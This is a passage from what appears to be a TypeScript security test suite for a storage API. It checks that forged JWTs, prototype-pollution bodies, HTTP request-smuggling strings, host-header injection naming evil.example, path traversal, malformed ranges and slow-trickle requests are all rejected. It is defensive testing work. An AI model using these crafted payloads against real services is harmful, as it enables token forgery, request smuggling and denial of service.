        contentType.replaceAll('\0', '\u0001'),
      ])
      for (const path of [
        `/api/storage/artifacts/${id}?raw=1`,
        `/api/storage/artifacts/${id}`,
        `/api/storage/signed/${signed({ sub: id, tid: mine })}`,
      ]) {
        const answer = await ask('GET', path)
        expect([answer.headers.get('set-cookie'), answer.headers.get('x-evil')]).toEqual([null, null])
        // It can be read all the same: the type is not what the payload is asked for.
        expect([contentType, answer.status]).toEqual([contentType, 200])
      }
    }
  })

  test('the host that a client names is in no URL that it is given', async () => {
    const { id } = await store(anyPayload())
    const text = await sendRaw(api.url, [
      `GET /api/storage/artifacts/${id}/url HTTP/1.1\r\nHost: evil.example\r\nX-Forwarded-Host: evil.example\r\nForwarded: host=evil.example\r\nConnection: close\r\nAuthorization: Bearer ${token}\r\n\r\n`,
    ])
    const [answer] = parseAnswers(text)
    expect(answer?.status).toBe(200)
    expect(JSON.parse(answer?.body ?? '').url.startsWith(`${api.url}/api/storage/signed/`)).toBe(true)
  })

  test('the id of a request is ours, whatever a client calls it', async () => {
    const answer = await ask('GET', '/api/storage/artifacts/x', {
      headers: { 'request-id': ourMarker, 'x-request-id': ourMarker },
    })
    expectError(answer, 400, 'invalid_request', 'params.id')
    expect(answer.text).not.toContain(ourMarker)
  })
})

describe('hostile bodies', () => {
  const jsonRoutes = guarded.filter(route => route.json !== undefined)
  const nested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`
  const valid = '"kind": "agent_trace", "payload": 1, "metadata": []'

  const bodies: [string, string | Buffer, number, string, string?][] = [
    ['empty', '', 400, 'malformed_json', 'body'],
    ['space', ' \n', 400, 'malformed_json', 'body'],
    ['null', 'null', 400, 'invalid_request', 'body'],
    ['a number', '1e400', 400, 'invalid_request', 'body'],
    ['a string', '"x"', 400, 'invalid_request', 'body'],
    ['an array', `[{${valid}}]`, 400, 'invalid_request', 'body'],
    ['two values', `{${valid}}{}`, 400, 'malformed_json', 'body'],
    ['a comma too many', `{${valid},}`, 400, 'malformed_json', 'body'],
    ['a comment', `{/**/${valid}}`, 400, 'malformed_json', 'body'],
    ['single quotes', `{${valid.replaceAll('"', "'")}}`, 400, 'malformed_json', 'body'],
    ['NaN', `{${valid}, "x": NaN}`, 400, 'malformed_json', 'body'],
    ['a number with a leading nought', `{${valid}, "x": 01}`, 400, 'malformed_json', 'body'],
    ['a control character in a string', `{${valid}, "x": "\0"}`, 400, 'malformed_json', 'body'],
    ['an escape that is none', `{${valid}, "x": "\\x00"}`, 400, 'malformed_json', 'body'],
    ['a byte order mark', `\uFEFF{${valid}}`, 400, 'malformed_json', 'body'],
    ['UTF-16', Buffer.from(`{${valid}}`, 'utf16le'), 400, 'malformed_json', 'body'],
    [
      'bytes that are no UTF-8',
      Buffer.concat([Buffer.from(`{${valid}, "x": "`), Buffer.from([0xff, 0xfe]), Buffer.from('"}')]),
      400,
      'malformed_json',
      'body',
    ],
    [
      'an overlong quote',
      Buffer.concat([Buffer.from(`{${valid}, "x": "`), Buffer.from([0xc0, 0xa2]), Buffer.from('"}')]),
      400,
      'malformed_json',
      'body',
    ],
    ['gzip', gzipSync(`{${valid}}`), 400, 'malformed_json', 'body'],
    ['cut short', `{${valid}`, 400, 'malformed_json', 'body'],
    ['deep', `{${valid}, "x": ${nested(501)}}`, 400, 'malformed_json', 'body'],
    ['very deep', `{${valid}, "x": ${nested(40_000)}}`, 400, 'malformed_json', 'body'],
    ['very deep, never closed', `{${valid}, "x": ${'[{"a":'.repeat(10_000)}`, 400, 'malformed_json', 'body'],
    [
      'deep in payloads',
      `{"kind": "agent_trace", "payload": ${nested(501)}, "metadata": ${nested(501)}}`,
      400,
      'malformed_json',
      'body',
    ],
    ['a long member', `{${valid}, "x": "${'x'.repeat(5000)}"}`, 400, 'invalid_request', 'body.x'],
    ['longer than the limit', `{${valid}, "x": "${'x'.repeat(bodyLimit)}"}`, 413, 'body_too_large'],
    ['space, longer than the limit', `{${valid}}${' '.repeat(bodyLimit)}`, 413, 'body_too_large'],
  ]
  const send = (path: string, body: string | Buffer, headers: Record<string, string> = {}) =>
    ask('POST', path, {
      body: new Uint8Array(Buffer.from(body)),
      headers: { 'content-type': 'application/json', ...headers },
    })

  test.each(bodies)('%s', async (_name, body, status, code, field) => {
    for (const route of jsonRoutes) {
      expectError(await send(route.path(''), body), status, code, field)
    }
  })

  test('one of the longest length that is allowed is taken', async () => {
    const start = `{${valid}`
    for (const route of jsonRoutes) {
      const answer = await send(route.path(''), `${start}${' '.repeat(bodyLimit - start.length - 1)}}`)
      expect(answer.status).toBe(route.good)
    }
  })

  test('a body in chunks is measured like any other', async () => {
    for (const route of guarded.filter(each => ofMethod(each) === 'POST')) {
      const length = route.bytes === undefined ? bodyLimit : rawLimit
      const chunks = new ReadableStream({
        start(controller) {
          for (let sent = 0; sent <= length; sent += 50_000) controller.enqueue(Buffer.alloc(50_000, ' '))
          controller.close()
        },
      })
      const answer = await ask('POST', route.path(''), {
        body: chunks,
        headers: { 'content-type': 'application/json' },
      })
      expectError(answer, 413, route.bytes === undefined ? 'body_too_large' : 'payload_too_large')
    }
  })

  test('an upload that says it is longer than the limit is refused at once', async () => {
    const text = await sendRaw(api.url, [
      `POST /api/storage/artifacts/raw?kind=attachment HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer ${token}\r\nContent-Type: text/plain\r\nContent-Length: ${rawLimit + 1}\r\n\r\n`,
    ])
    const [answer] = parseAnswers(text)
    expect([answer?.status, JSON.parse(answer?.body ?? '').code]).toEqual([413, 'payload_too_large'])
  })

  test.each([
    'text/plain',
    'text/plain; charset=application/json',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'application/xml',
    'application/jsonp',
    'application/json-patch+json',
    'application/csp-report',
    'application/octet-stream',
    'nonsense',
    '*/*',
    'application/json, text/plain',
  ])('the type %s is refused', async contentType => {
    for (const route of jsonRoutes) {
      expectError(
        await send(route.path(''), `{${valid}}`, { 'content-type': contentType }),
        415,
        'unsupported_media_type',
      )
    }
    // A page of another site may send some of these without being asked: a DELETE must not take them either.
    const { id } = await store('1')
    const answer = await ask('DELETE', `/api/storage/artifacts/${id}`, {
      body: 'x',
      headers: { 'content-type': contentType },
    })
    expectError(answer, 415, 'unsupported_media_type')
    expect((await ask('GET', `/api/storage/artifacts/${id}`)).status).toBe(200)
  })

  test('of members given twice the last counts, everywhere', async () => {
    const answer = await send(
      '/api/storage/artifacts',
      '{"kind": "attachment", "payload": 1, "kind": "agent_trace", "payload": 2, "\\u006bind": "workflow_state"}',
    )
    expect([answer.status, answer.json.artifact.kind]).toEqual([201, 'workflow_state'])
    const read = await ask('GET', `/api/storage/artifacts/${answer.json.artifact.id}`)
    expect(read.json.payload).toBe(2)
  })

  test('names of the prototype are names like any other', async () => {
    for (const polluted of [
      '"__proto__": {"polluted": 1, "kind": "agent_trace", "payload": 1, "metadata": []}',
      '"constructor": {"prototype": {"polluted": 1}}',
      '"\\u005f_proto__": {"polluted": 1, "field": "x"}',
    ]) {
      for (const route of jsonRoutes) {
        expect((await send(route.path(''), `{${polluted}, ${valid}}`)).status).toBe(route.good)
      }
      // What stands under it is not a member of the body.
      const missing = await send('/api/storage/artifacts', `{${polluted}, "payload": 1}`)
      expectError(missing, 400, 'invalid_request', 'body.kind')
      expectError(
        await send('/api/storage/hydrate', `{${polluted}}`),
        400,
        'invalid_request',
        'body.metadata',
      )
    }
    for (const name of ['__proto__', 'constructor', 'hasOwnProperty']) {
      const row = `{"${name}": {"polluted": 1}, "tool_interactions_ref": "${(await store('[]')).id}"}`
      const answer = await send('/api/storage/hydrate', `{"metadata": [${row}]}`)
      expect(answer.text).toContain(`"${name}": {"polluted": 1}`)
    }
    expect('polluted' in {}).toBe(false)
  })

  test.each<[string, string, string]>([
    ['no list', '{}', 'body.metadata'],
    ['a text', '"[]"', 'body.metadata'],
    ['too many', `[${Array(201).fill('{}').join(',')}]`, 'body.metadata'],
  ])('hydrate refuses metadata that is %s', async (_name, metadata, field) => {
    expectError(
      await send('/api/storage/hydrate', `{"metadata": ${metadata}}`),
      400,
      'invalid_request',
      field,
    )
  })

  test('pointers of hydrate that are no ids are no pointers', async () => {
    for (const pointer of [
      '"x"',
      '7',
      'null',
      '[]',
      '{}',
      `"${randomUUID()}'"`,
      `" ${randomUUID()}"`,
      '"\\u0000"',
    ]) {
      const row = `{"tool_interactions_ref": ${pointer}, "artifact_metadata_ref": ${pointer}}`
      const answer = await send('/api/storage/hydrate', `{"metadata": [${row}]}`)
      expect(answer.text).toBe(`{"status":"ok","count":1,"metadata":[${row}],"errors":[]}`)
    }
  })
})

describe('what is hydrated', () => {
  const hydrate = (rows: string[]) =>
    ask('POST', '/api/storage/hydrate', { json: `{"metadata": [${rows.join(', ')}]}` })

  // Bytes that anybody may have uploaded must not break, or write, the answer about other rows.
  test.each<[string, Buffer]>([
    ['no JSON', Buffer.from('no JSON')],
    ['an answer of their own', Buffer.from('1}], "errors": [], "status": "evil", "x": [{"y": 2')],
    ['JSON and more', Buffer.from('[1] [2]')],
    ['bytes that are no UTF-8', Buffer.from([0x22, 0xff, 0xfe, 0x22])],
    ['an object that is none', Buffer.from('{"a": }')],
    ['nothing', Buffer.alloc(0)],
  ])('is never taken from an upload that is %s', async (_name, bytes) => {
    for (const contentType of ['application/json', 'text/plain']) {
      const { id } = await storeRaw(bytes, contentType)
      for (const pointer of ['tool_interactions_ref', 'artifact_metadata_ref']) {
        const row = `{"${pointer}": "${id}"}`
        const answer = await hydrate(['{"before": 1}', row, '{"after": 1}'])
        expect(answer.json).toMatchObject({
          status: 'ok',
          count: 3,
          metadata: [{ before: 1 }, JSON.parse(row), { after: 1 }],
          errors: [{ index: 1 }],
        })
        expect(answer.json.errors).toHaveLength(1)
      }
    }
  })

  test('is bounded however often one payload is pointed to', async () => {
    const { id } = await storeRaw(Buffer.from(JSON.stringify('x'.repeat(250_000))), 'application/json')
    const answer = await hydrate(Array(40).fill(`{"tool_interactions_ref": "${id}"}`))
    expect(answer.status).toBe(200)
    expect(answer.json.errors.map((e: { code: string }) => e.code)).toContain('artifact_too_large')
    // The limit, and room for what is sent back as it came.
    expect(answer.bytes.length).toBeLessThan(hydrateLimit + 100_000)
  })

  test('is bounded over all rows and levels together', async () => {
    const ids = await Promise.all(
      Array.from({ length: 6 }, (_, n) =>
        storeRaw(Buffer.from(JSON.stringify(`${n}${'x'.repeat(250_000)}`)), 'application/json'),
      ),
    )
    const bases = await Promise.all(ids.map(({ id }) => store(`{"tool_interactions_ref": "${id}"}`)))
    const answer = await hydrate(bases.map(({ id }) => `{"artifact_metadata_ref": "${id}"}`))
    expect(answer.json.errors.map((e: { code: string }) => e.code)).toEqual([
      'artifact_too_large',
      'artifact_too_large',
    ])
    expect(answer.bytes.length).toBeLessThan(hydrateLimit + 100_000)
  })
})

test('an upload called JSON that is not UTF-8 comes back as its bytes', async () => {
  for (const bytes of [Buffer.from([0x22, 0xff, 0x22]), Buffer.from([0x22, 0xc0, 0xa2, 0x22])]) {
    const { id } = await storeRaw(bytes, 'application/json')
    const answer = await ask('GET', `/api/storage/artifacts/${id}`)
    expect(answer.json.payload).toBeUndefined()
    expect(Buffer.from(answer.json.payload_base64 ?? '', 'base64')).toEqual(bytes)
  }
})

describe('signed URLs', () => {
  const refused = async (value: string) => {
    expectError(await askUnknown('GET', `/api/storage/signed/${value}`), 404, 'artifact_not_found')
  }
  /** A URL of the API for an artifact of ours. */
  const urlFor = async (id: string, seconds = 60) => {
    const { json } = await ask('GET', `/api/storage/artifacts/${id}/url?expires_in=${seconds}`)
    expect(json.served_by).toBe('api')
    const value: string = json.url.replace(`${api.url}/api/storage/signed/`, '')
    credentials.add(value)
    return value
  }

  test('that were tampered with are refused', async () => {
    const { id } = await store(anyPayload())
    const other = await store(anyPayload())
    const value = await urlFor(id)
    expect((await askUnknown('GET', `/api/storage/signed/${value}`)).status).toBe(200)
    const [head = '', body = '', signature = ''] = value.split('.')
    const claims = JSON.parse(Buffer.from(body, 'base64url').toString())
    const encode = (json: unknown) => Buffer.from(JSON.stringify(json)).toString('base64url')
    const flipped = (text: string) => `${text[0] === 'A' ? 'B' : 'A'}${text.slice(1)}`
    for (const forged of [
      `${head}.${encode({ ...claims, sub: other.id })}.${signature}`,
      `${head}.${encode({ ...claims, tid: theirs })}.${signature}`,
      `${head}.${encode({ ...claims, exp: inSeconds(99_999_999) })}.${signature}`,
      `${head}.${body}.${flipped(signature)}`,
      `${head}.${body}.`,
      `${head}.${body}`,
      `${encode({ alg: 'none' })}.${body}.`,
      `${encode({ alg: 'none' })}.${body}.${signature}`,
      `${flipped(head)}.${body}.${signature}`,
      `${value}x`,
      value.slice(0, -1),
      value.toUpperCase(),
      id,
      '-',
      '..%2f..%2f',
      '%00',
      "'%20or%20true",
    ]) {
      await refused(forged)
    }
  })

  test('signed with another key are refused', async () => {
    const { id } = await store(anyPayload())
    const claims = { aud: 'pg-lighter/artifact-url', sub: id, tid: mine, exp: inSeconds(60) }
    for (const key of [
      '',
      jwtSecret,
      serviceKey,
      environment.env.R2_SECRET_ACCESS_KEY ?? '',
      environment.env.R2_ACCESS_KEY_ID ?? '',
    ]) {
      await refused(forgeToken({ alg: 'HS256' }, claims, hmac(key)))
    }
    await refused(token)
    await refused(secretToken(jwtSecret, { ...claims, tenant_id: mine }))
  })

  test('under the right key must be what they are for', async () => {
    const { id } = await store(anyPayload())
    expect((await askUnknown('GET', `/api/storage/signed/${signed({ sub: id, tid: mine })}`)).status).toBe(
      200,
    )
    for (const claims of [
      { sub: id, tid: mine, exp: undefined },
      { sub: id, tid: mine, exp: inSeconds(-1) },
      { sub: id, tid: mine, aud: 'something else' },
      { sub: id, tid: mine, aud: undefined },
      { sub: id },
      { tid: mine },
      { sub: id, tid: [mine] },
      { sub: id, tid: theirs },
      { sub: id, tid: randomUUID() },
    ]) {
      await refused(signed(claims))
    }
  })

  test('end when they say, and with their artifact', async () => {
    const { id } = await store(anyPayload())
    const [short, long] = [await urlFor(id, 1), await urlFor(id, 60)]
    await setTimeout(2100)
    await refused(short)
    expect((await askUnknown('GET', `/api/storage/signed/${long}`)).status).toBe(200)
    await ask('DELETE', `/api/storage/artifacts/${id}`)
    const gone = await askUnknown('GET', `/api/storage/signed/${long}`)
    expect([gone.status, gone.json.code]).toEqual([410, 'artifact_deleted'])
  })

  test('open nothing else', async () => {
    const { id } = await store(anyPayload())
    const value = await urlFor(id)
    for (const route of guarded) {
      const options = {
        ...(route.json !== undefined && { json: route.json }),
        ...(route.bytes !== undefined && { body: new Uint8Array(route.bytes) }),
      }
      expectError(
        await askUnknown(ofMethod(route), route.path(id), { ...options, headers: bearer(value) }),
        401,
        'unauthorized',
      )
      const path = route.path(id)
      for (const name of ['token', 'signature', 'access_token']) {
        const inQuery = `${path}${path.includes('?') ? '&' : '?'}${name}=${value}`
        expectError(await askUnknown(ofMethod(route), inQuery, options), 401, 'unauthorized')
      }
    }
    for (const method of ['POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS']) {
      expectError(await askUnknown(method, `/api/storage/signed/${value}`), 404, 'route_not_found')
    }
    for (const suffix of ['/', '/url', '/..']) {
      const text = await sendRaw(api.url, [
        `GET /api/storage/signed/${value}${suffix} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`,
      ])
      expect(parseAnswers(text)[0]?.status).toBe(404)
    }
  })

  test('are refused in our words when they are too long, or no URL, and not repeated', async () => {
    const value = await urlFor((await store(anyPayload())).id)
    for (const [mangled, status] of [
      [`${value}${'x'.repeat(2000)}`, 414],
      [`${value}%`, 400],
    ] as const) {
      const answer = await askUnknown('GET', `/api/storage/signed/${mangled}`)
      expect(answer.status).toBe(status)
      expect(answer.text).not.toContain(value)
      expectError(answer, status, 'invalid_request')
    }
  })

  test('last a week at most', async () => {
    const { id } = await store(anyPayload())
    const path = `/api/storage/artifacts/${id}/url?expires_in=`
    expect((await ask('GET', `${path}604800`)).status).toBe(200)
    for (const seconds of ['604801', '0', '-1', '1.5', '1e99', 'Infinity']) {
      expectError(await ask('GET', `${path}${seconds}`), 400, 'invalid_request', 'querystring.expires_in')
    }
  })
})

describe('conditions and ranges', () => {
  const size = 100_000
  const bytes = randomBytes(size)
  const etag = `"${createHash('sha256').update(bytes).digest('hex')}"`
  let ids: string[]

  beforeAll(async () => {
    // Above and below what is streamed; the payload of the small one is the beginning of the other.
    ids = [(await storeRaw(bytes)).id, (await storeRaw(bytes.subarray(0, 1000))).id]
  })

  test.each<[string, number, [number, number]?]>([
    ['bytes=0-0', 206, [0, 1]],
    ['bytes=0-', 206, [0, size]],
    ['bytes=-1', 206, [size - 1, size]],
    ['bytes=-999999999', 206, [0, size]],
    ['bytes=10-999999999', 206, [10, size]],
    ['bytes=000-001', 206, [0, 2]],
    ['bytes=-0', 416],
    ['bytes=100000-', 416],
    ['bytes=999999999-999999999', 416],
    ['bytes=999999999999999-', 416],
    // What makes no sense, or more sense than we can make of it, is as if it were not there.
    ['bytes=5-2', 200],
    ['bytes=-', 200],
    ['bytes=', 200],
    ['bytes', 200],
    ['bytes=0-1,5-6', 200],
    ['bytes=0-1;5-6', 200],
    ['bytes=0-1x', 200],
    ['bytes=x-1', 200],
    ['bytes=-1-', 200],
    ['bytes=--1', 200],
    ['bytes=0x0-0x1', 200],
    ['bytes=1e1-2e1', 200],
    ['bytes=0.5-1', 200],
    ['items=0-1', 200],
    ['0-1', 200],
    [`bytes=${'9'.repeat(40)}-`, 200],
    [`bytes=-${'9'.repeat(40)}`, 200],
    [`bytes=${Array(20).fill('0-').join(',')}`, 200],
  ])('the range %s is answered %d', async (range, status, part = [0, size]) => {
    const [id = ''] = ids
    // Twice: the first time all of it is read and checked, then the range alone.
    for (let n = 0; n < 2; n++) {
      const answer = await ask('GET', `/api/storage/artifacts/${id}?raw=1`, { headers: { range } })
      expect(answer.status).toBe(status)
      if (status === 416) {
        expectError(answer, 416, 'range_not_satisfiable', 'range')
        expect(answer.headers.get('content-range')).toBe(`bytes */${size}`)
        expect(answer.headers.get('etag')).toBeNull()
        continue
      }
      expect(answer.bytes.equals(bytes.subarray(...part))).toBe(true)
      expect(answer.headers.get('content-range')).toBe(
        status === 206 ? `bytes ${part[0]}-${part[1] - 1}/${size}` : null,
      )
    }
  })

  test('If-Range is for the very same version', async () => {
    for (const id of ids) {
      const own = (await ask('HEAD', `/api/storage/artifacts/${id}?raw=1`)).headers.get('etag') ?? ''
      for (const [ifRange, status] of [
        [own, 206],
        [`W/${own}`, 200],
        [own.replaceAll('"', ''), 200],
        [`${own}, "x"`, 200],
        ['*', 200],
        ['""', 200],
        [new Date(Date.now() + 1e7).toUTCString(), 200],
        ['"x"', 200],
      ] as const) {
        const answer = await ask('GET', `/api/storage/artifacts/${id}?raw=1`, {
          headers: { range: 'bytes=0-9', 'if-range': ifRange },
        })
        expect([ifRange, answer.status]).toEqual([ifRange, status])
        if (status === 206) expect(answer.bytes.equals(bytes.subarray(0, 10))).toBe(true)
      }
    }
  })

  test('If-None-Match is one of a list, weak or not', async () => {
    for (const [ifNoneMatch, status] of [
      [etag, 304],
      [`W/${etag}`, 304],
      [`"x", ${etag}`, 304],
      ['*', 304],
      [` ${etag} `, 304],
      [etag.replaceAll('"', ''), 200],
      [etag.toUpperCase(), 200],
      ['"x"', 200],
      ['', 200],
      [',,,', 200],
      [Array(1500).fill('"x"').join(','), 200],
    ] as const) {
      const answer = await ask('GET', `/api/storage/artifacts/${ids[0]}?raw=1`, {
        headers: { 'if-none-match': ifNoneMatch },
      })
      expect([ifNoneMatch.slice(0, 80), answer.status]).toEqual([ifNoneMatch.slice(0, 80), status])
      expect(answer.bytes.length).toBe(status === 304 ? 0 : size)
    }
  })

  test('an error has none of the headers of the payload that it stands for', async () => {
    const damaged = await storeRaw(randomBytes(1000), 'text/html')
    await environment.store.put(damaged.r2_key, randomBytes(1000), { contentType: 'text/html' })
    for (const headers of [{}, { range: 'bytes=0-9' }]) {
      const answer = await ask('GET', `/api/storage/artifacts/${damaged.id}?raw=1`, { headers })
      expectError(answer, 502, 'artifact_corrupt')
      for (const name of ['etag', 'content-range', 'accept-ranges', 'content-disposition']) {
        expect([name, answer.headers.get(name)]).toEqual([name, null])
      }
    }
  })
})

describe('methods', () => {
  test.each([...new Set(routes.map(({ route }) => route.split(' ')[1] ?? ''))])(
    '%s has no others',
    async pattern => {
      const own = routes.filter(({ route }) => route.endsWith(` ${pattern}`))
      const methods = own.flatMap(route => (ofMethod(route) === 'GET' ? ['GET', 'HEAD'] : [ofMethod(route)]))
      const { id } = await store('1')
      const path = own[0]?.path(id) ?? ''
      for (const method of [
        'GET',
        'POST',
        'PUT',
        'PATCH',
        'DELETE',
        'OPTIONS',
        'PROPFIND',
        'SEARCH',
        'MKCOL',
      ]) {
        // A path with an id has the form of the other's: /raw is no id, and says so.
        if (methods.includes(method) || pattern.endsWith('/raw')) continue
        expectError(await ask(method, path), 404, 'route_not_found')
      }
      expect((await ask('GET', `/api/storage/artifacts/${id}`)).status).toBe(200)
    },
  )

  test('are what the request line says', async () => {
    const { id } = await store('1')
    for (const name of ['x-http-method-override', 'x-http-method', 'x-method-override']) {
      const read = await ask('GET', `/api/storage/artifacts/${id}?_method=DELETE`, {
        headers: { [name]: 'DELETE' },
      })
      expect([read.status, read.json.payload]).toEqual([200, 1])
    }
  })

  test('HEAD changes nothing and tells what GET would', async () => {
    for (const bytes of [Buffer.from('small'), randomBytes(100_000)]) {
      const { id } = await storeRaw(bytes, 'text/plain')
      for (const path of [`/api/storage/artifacts/${id}?raw=1`, `/api/storage/artifacts/${id}`]) {
        const [get, head] = [await ask('GET', path), await ask('HEAD', path)]
        expect([head.status, head.text]).toEqual([200, ''])
        expect(head.headers.get('content-type')).toBe(get.headers.get('content-type'))
        expect(head.headers.get('etag')).toBe(get.headers.get('etag'))
      }
    }
  })
})

describe('what is hardly HTTP', () => {
  const auth = `Authorization: Bearer ${token}\r\n`
  const start = (line: string, more = '') =>
    `${line} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n${auth}${more}`
  const list = '/api/storage/artifacts'

  test.each<[string, string, number, string]>([
    ['no HTTP', 'nonsense\r\n\r\n', 400, 'invalid_request'],
    ['a TLS handshake', '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03', 400, 'invalid_request'],
    ['HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 400, 'invalid_request'],
    ['another version', `GET ${list} HTTP/3.0\r\nHost: x\r\n\r\n`, 400, 'invalid_request'],
    ['an unknown method', start(`BREW ${list}`, '\r\n'), 400, 'invalid_request'],
    ['a method in lower case', start(`get ${list}`, '\r\n'), 400, 'invalid_request'],
    ['a space in the path', start(`GET ${list} x`, '\r\n'), 400, 'invalid_request'],
    ['a NUL in the path', start(`GET ${list}\0`, '\r\n'), 400, 'invalid_request'],
    ['a NUL in a header', start(`GET ${list}`, 'X: a\0b\r\n\r\n'), 400, 'invalid_request'],
    ['a space before a colon', start(`GET ${list}`, 'X-Tenant-Id : x\r\n\r\n'), 400, 'invalid_request'],
    ['a header without a name', start(`GET ${list}`, ': x\r\n\r\n'), 400, 'invalid_request'],
    ['a folded header', start(`GET ${list}`, 'X: a\r\n b\r\n\r\n'), 400, 'invalid_request'],
    ['lines that end in LF alone', `GET ${list} HTTP/1.1\nHost: x\n\n`, 400, 'invalid_request'],
    [
      'two lengths',
      start(`POST ${list}`, 'Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}'),
      400,
      'invalid_request',
    ],
    [
      'a length and chunks',
      start(`POST ${list}`, 'Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n'),
      400,
      'invalid_request',
    ],
    [
      'chunks within something unknown',
      start(`POST ${list}`, 'Transfer-Encoding: chunked, x\r\n\r\n0\r\n\r\n'),
      400,
      'invalid_request',
    ],
    ['a negative length', start(`POST ${list}`, 'Content-Length: -1\r\n\r\n'), 400, 'invalid_request'],
    [
      'a length that is no number',
      start(`POST ${list}`, 'Content-Length: 0x2\r\n\r\n{}'),
      400,
      'invalid_request',
    ],
    ['headers of 20 KB', start(`GET ${list}`, `X: ${'x'.repeat(20_000)}\r\n\r\n`), 431, 'headers_too_large'],
    [
      'thousands of headers',
      start(`GET ${list}`, `${Array(4000).fill('X: x').join('\r\n')}\r\n\r\n`),
      431,
      'headers_too_large',
    ],
    ['a URL of 20 KB', start(`GET ${list}?x=${'x'.repeat(20_000)}`, '\r\n'), 431, 'headers_too_large'],
  ])('%s is refused in our words', async (_name, text, status, code) => {
    const answers = parseAnswers(await sendRaw(api.url, [Buffer.from(text, 'latin1')]))
    expect(answers).toHaveLength(1)
    const [answer] = answers
    const body = JSON.parse(answer?.body ?? '')
    expect([answer?.status, body.code]).toEqual([status, code])
    expect(Object.keys(body).sort()).toEqual(['code', 'message', 'request_id', 'status'])
    expect(body.request_id).toMatch(requestId)
    expect(answer?.headers.get('connection')).toBe('close')
    expect((await ask('GET', '/healthz')).status).toBe(200)
  })

  // Node answers these by itself, before there is a request: with a status and nothing else.
  test.each<[string, string, number]>([
    ['no Host', 'GET /healthz HTTP/1.1\r\nConnection: close\r\n\r\n', 400],
    ['an expectation', 'GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\nExpect: x\r\n\r\n', 417],
  ])('%s is refused without a word', async (_name, text, status) => {
    const [answer] = parseAnswers(await sendRaw(api.url, [text]))
    expect([answer?.status, answer?.body]).toEqual([status, ''])
  })

  test('a proxy is not what it is', async () => {
    expect(await sendRaw(api.url, ['CONNECT evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n'])).toBe('')
    // Of an absolute URL only the path counts.
    const [answer] = parseAnswers(
      await sendRaw(api.url, [start('GET http://evil.example/api/storage/artifacts/x', '\r\n')]),
    )
    expect(answer?.status).toBe(400)
    const [trace] = parseAnswers(await sendRaw(api.url, [start('TRACE /', '\r\n')]))
    expect(trace?.status).toBe(404)
    expect(trace?.body).not.toContain(token)
  })

  test('a second request hidden in a body is not carried out', async () => {
    const { id } = await store('1')
    const hidden = `DELETE ${list}/${id} HTTP/1.1\r\nHost: x\r\n${auth}\r\n`
    const smuggled = [
      start(
        `POST ${list}`,
        `Content-Type: application/json\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
      ),
      start(`POST ${list}`, `Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${hidden}`),
      start(`POST ${list}`, `Transfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\n0\r\n\r\n${hidden}`),
      start(`POST ${list}`, `Transfer-Encoding:\x0bchunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n${hidden}`),
      start(`GET ${list}?x=\r\n\r\n${hidden}`, '\r\n'),
    ]
    for (const text of smuggled) await sendRaw(api.url, [Buffer.from(text, 'latin1')])
    expect((await ask('GET', `${list}/${id}`)).status).toBe(200)
  })

  test('answers of one connection stay in order and apart', async () => {
    const { id } = await store(anyPayload())
    const one = `GET ${list}/${id} HTTP/1.1\r\nHost: x\r\n${auth}\r\n`
    const none = `GET ${list}/${id} HTTP/1.1\r\nHost: x\r\n\r\n`
    const last = `GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`
    const answers = parseAnswers(await sendRaw(api.url, [one + none + one + none + last]))
    expect(answers.map(answer => answer.status)).toEqual([200, 401, 200, 401, 200])
    expect(answers[1]?.body).not.toContain(ourMarker)
  })

  async function* slowly(beginning: string, piece: string, everyMs: number) {
    yield beginning
    for (let n = 0; n < 200; n++) {
      await setTimeout(everyMs)
      yield piece
    }
  }

  test.each<[string, string, string]>([
    ['headers', `GET ${list} HTTP/1.1\r\nHost: x\r\n`, 'X: x\r\n'],
    [
      'a JSON body',
      start(`POST ${list}`, 'Content-Type: application/json\r\nContent-Length: 9999\r\n\r\n{'),
      ' ',
    ],
    [
      'chunks',
      start(`POST ${list}`, 'Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n'),
      '1\r\n \r\n',
    ],
    [
      'an upload',
      start(`POST ${list}/raw?kind=attachment`, 'Content-Type: text/plain\r\nContent-Length: 9999\r\n\r\n'),
      'x',
    ],
  ])('%s: what trickles in is given up when its time is over', async (_name, beginning, piece) => {
    const began = performance.now()
    const text = await sendRaw(api.url, slowly(beginning, piece, 100))
    const tookMs = performance.now() - began
    // Node looks every five seconds.
    expect(tookMs).toBeGreaterThan(requestTimeoutMs - 200)
    expect(tookMs).toBeLessThan(requestTimeoutMs + 6000)
    const [answer] = parseAnswers(text)
    expect([answer?.status, JSON.parse(answer?.body ?? '{}').code]).toEqual([408, 'request_timeout'])
  })

  test('a client that goes away in the middle is no fault of the database', async () => {
    const since = logLines.length
    for (const text of [
      start(`POST ${list}`, 'Content-Type: application/json\r\nContent-Length: 999\r\n\r\n{'),
      start(
        'POST /api/storage/hydrate',
        'Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n1\r\n{\r\n',
      ),
      start(`POST ${list}/raw?kind=attachment`, 'Content-Type: text/plain\r\nContent-Length: 999\r\n\r\nx'),
    ]) {
      const { hostname, port } = new URL(api.url)
      const socket = connect(Number(port), hostname)
      socket.on('error', () => undefined)
      socket.write(text)
      await setTimeout(200)
      socket.resetAndDestroy()
      await setTimeout(300)
    }
    const blamed = logLines.slice(since).filter(line => JSON.parse(line).level >= 50)
    expect(blamed).toEqual([])
  })

  test('an upload that breaks off leaves nothing to be found', async () => {
    const count = async () =>
      (
        await environment.admin.query('select count(*)::int as n from artifact_refs where tenant_id = $1', [
          mine,
        ])
      ).rows
    const before = await count()
    await sendRaw(api.url, [
      start(
        `POST ${list}/raw?kind=attachment`,
